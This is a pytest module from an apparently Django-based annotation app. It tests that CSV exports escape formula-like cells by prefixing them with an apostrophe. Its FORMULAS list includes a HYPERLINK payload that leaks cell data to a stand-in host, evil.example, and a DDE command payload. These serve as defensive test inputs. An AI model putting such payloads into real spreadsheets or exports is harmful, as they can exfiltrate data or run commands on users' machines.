"""Every CSV the app writes is safe to open in a spreadsheet: a text cell that starts with = + - @, a tab or a
carriage return (a formula to Excel, LibreOffice and Google Sheets) is written with a leading apostrophe, which
those programs show as text. Numbers stay numbers, and the "-" of an undefined cell stays as it is.

Annotators and crowd participants write comments, feedback and skip reasons; imports bring task ids and
categories: any of them may end up in a researcher's spreadsheet."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotate.queue.services import assignment_next
from annotate.rating.fire.services import ratings_save
from evaluation.exports.bundle import bundle_write
from evaluation.exports.renderers.tables import to_csv
from evaluation.table import Table

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_text_cells_that_start_a_formula_are_escaped_and_numbers_are_not():
    table = Table(title="t", columns=["text", "number"],
                  rows=[[text, -1] for text in FORMULAS] + [["-", Decimal("-0.5")], [None, -2.25], ["ok", 3]])
    rows = rows_of(to_csv(table))
    assert [row["text"] for row in rows[:len(FORMULAS)]] == ["'" + text for text in FORMULAS]
    assert [row["number"] for row in rows] == ["-1"] * len(FORMULAS) + ["-0.5", "-2.25", "3"]
    assert [row["text"] for row in rows[len(FORMULAS):]] == ["-", "", "ok"]  # the text "-" stays; undefined is empty


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole():
    rows = rows_of(to_csv(Table(title="", columns=["comment", "score"], rows=[["first\rsecond", 4]])))
    assert rows == [{"comment": "first\rsecond", "score": "4"}]


def test_headers_are_escaped_too():
    assert to_csv(Table(title="", columns=["=cmd", "ok"], rows=[])) == "'=cmd,ok\r\n"


@pytest.fixture
def commented(fire_batch, raters):
    """Every rater's comment on every turn is one of the formulas."""
    for rater in raters:
        while (assignment := assignment_next(annotator=rater)) is not None:
            conversation = assignment.work_item.conversation
            turns = [t.index for t in conversation.turns.all() if t.is_rateable]
            ratings_save(annotator=rater, conversation_id=conversation.id, final=True,
                         scores={turn: (4, FORMULAS[turn % len(FORMULAS)]) for turn in turns},
                         client_request_id=f"{rater.username}-{conversation.id}")
    return fire_batch


def assert_escaped(rows: list[dict]) -> None:
    # Comments are saved stripped of surrounding blanks (a leading tab or CR goes), hence strip().
    assert rows and all(row["comment"] in {"'" + f.strip() for f in FORMULAS} for row in rows), rows[:3]
    assert {row["score"] for row in rows} == {"4"}


def test_the_ratings_download_escapes_the_comments(client, commented, researcher):
    commented.members.add(researcher)
    client.force_login(researcher)
    response = client.get(reverse("research-fire-export", args=[commented.id, "ratings", "csv"]))
    assert response.status_code == 200
    assert_escaped(rows_of(response.content.decode()))


def test_the_ratings_command_and_the_bundle_escape_the_comments(commented, tmp_path):
    out = tmp_path / "ratings.csv"
    call_command("export_fire", batch=commented.name, what="ratings", format="csv", out=str(out))
    assert_escaped(rows_of(out.read_bytes().decode()))
    buffer = io.BytesIO()
    bundle_write(commented, buffer)
    assert_escaped(rows_of(zipfile.ZipFile(buffer).read("data/ratings.csv").decode()))
